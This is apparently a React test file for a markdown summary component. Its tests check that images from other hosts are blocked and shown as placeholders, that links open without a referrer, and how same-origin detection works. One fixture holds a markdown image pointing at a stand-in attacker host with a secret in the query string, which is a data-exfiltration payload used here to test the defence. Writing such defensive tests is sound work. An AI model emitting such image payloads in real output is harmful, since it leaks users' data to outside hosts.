import { render, screen } from "@testing-library/react";
import { isSameOrigin, SummaryMarkdown } from "./SummaryMarkdown";

describe("SummaryMarkdown", () => {
  it("does not render images from other hosts, and says so", () => {
    const { container } = render(
      <SummaryMarkdown text={"Fixed it.\n\n![x](https://attacker.example/?d=secret) and ![logo](//cdn.example/l.png)"} />,
    );
    expect(container.querySelectorAll("img")).toHaveLength(0);
    expect(screen.getByText("[image not loaded: x — from attacker.example]")).toBeTruthy();
    expect(screen.getByText("[image not loaded: logo — from cdn.example]")).toBeTruthy();
    expect(container.innerHTML).not.toContain("attacker.example/?d=secret\"");
  });

  it("renders images from this origin", () => {
    const { container } = render(<SummaryMarkdown text={"![chart](/assets/chart.png)"} />);
    expect(container.querySelector("img")?.getAttribute("src")).toBe("/assets/chart.png");
  });

  it("opens links without a referrer", () => {
    render(<SummaryMarkdown text={"[docs](https://docs.example/x)"} />);
    expect(screen.getByRole("link", { name: "docs" }).getAttribute("rel")).toBe("noreferrer noopener");
  });

  it("tells this origin from others", () => {
    expect(isSameOrigin("/a.png", "http://127.0.0.1:5080")).toBe(true);
    expect(isSameOrigin("http://127.0.0.1:5081/a.png", "http://127.0.0.1:5080")).toBe(false);
    expect(isSameOrigin("data:image/png;base64,AAAA", "http://127.0.0.1:5080")).toBe(false);
    expect(isSameOrigin(undefined, "http://127.0.0.1:5080")).toBe(false);
  });
});
